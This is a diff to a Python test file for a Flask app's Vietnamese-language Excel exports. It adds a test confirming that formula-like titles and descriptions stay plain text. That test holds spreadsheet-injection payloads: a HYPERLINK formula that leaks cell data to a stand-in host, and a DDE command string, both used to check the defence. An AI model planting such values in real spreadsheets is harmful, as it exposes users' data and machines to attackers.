@@ -2,20 +2,17 @@
 
 from __future__ import annotations
 
-import io
 from datetime import date, datetime
 
 from flask_babel import force_locale
-from openpyxl import load_workbook
 
 from inspection.labels import label
 from models import InitiativeStatus
+from tests.workbooks import opened
 
 
 def _sheet(response):
-    assert response.status_code == 200
-    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
-    return load_workbook(io.BytesIO(response.data)).active
+    return opened(response).active
 
 
 def test_the_registry_export_has_the_filtered_rows(leader_client, make_unit, make_initiative):
@@ -34,7 +31,7 @@ def test_the_registry_export_has_the_filtered_rows(leader_client, make_unit, mak
     with force_locale("vi"):
         assert row["Trạng thái"] == label(InitiativeStatus.RECOGNISED)
     assert row["Ngày bắt đầu"] == datetime(2026, 3, 2)
-    assert sheet.cell(row=2, column=8).number_format == "DD/MM/YYYY"
+    assert sheet.cell(row=2, column=8).number_format == "dd/mm/yyyy"
 
 
 def test_the_export_is_in_vietnamese_even_in_english(leader_client, make_initiative):
@@ -55,4 +52,14 @@ def test_the_missing_units_export(leader_client, make_unit, make_initiative):
     assert rows[1][:3] == (1, "THIEU", "Phòng Tổ chức")
     assert rows[1][6] == 1  # one initiative submitted, none recognised
     assert rows[1][7] == datetime(2026, 10, 31)
-    assert sheet.cell(row=2, column=8).number_format == "DD/MM/YYYY"
+    assert sheet.cell(row=2, column=8).number_format == "dd/mm/yyyy"
+
+
+def test_a_title_that_looks_like_a_formula_stays_text(leader_client, make_initiative):
+    """An initiative titled =HYPERLINK(…) must not become a live link or formula in Excel."""
+    title = '=HYPERLINK("http://example.invalid/?leak="&A1,"Xem chi tiết")'
+    make_initiative(title=title, description="  +cmd|' /C calc'!A0")
+    sheet = _sheet(leader_client.get("/initiatives/export.xlsx?year=2026"))
+    title_cell, description_cell = sheet.cell(row=2, column=5), sheet.cell(row=2, column=16)
+    assert (title_cell.value, title_cell.data_type, title_cell.quotePrefix) == (title, "s", True)
+    assert description_cell.value == "  +cmd|' /C calc'!A0" and description_cell.quotePrefix
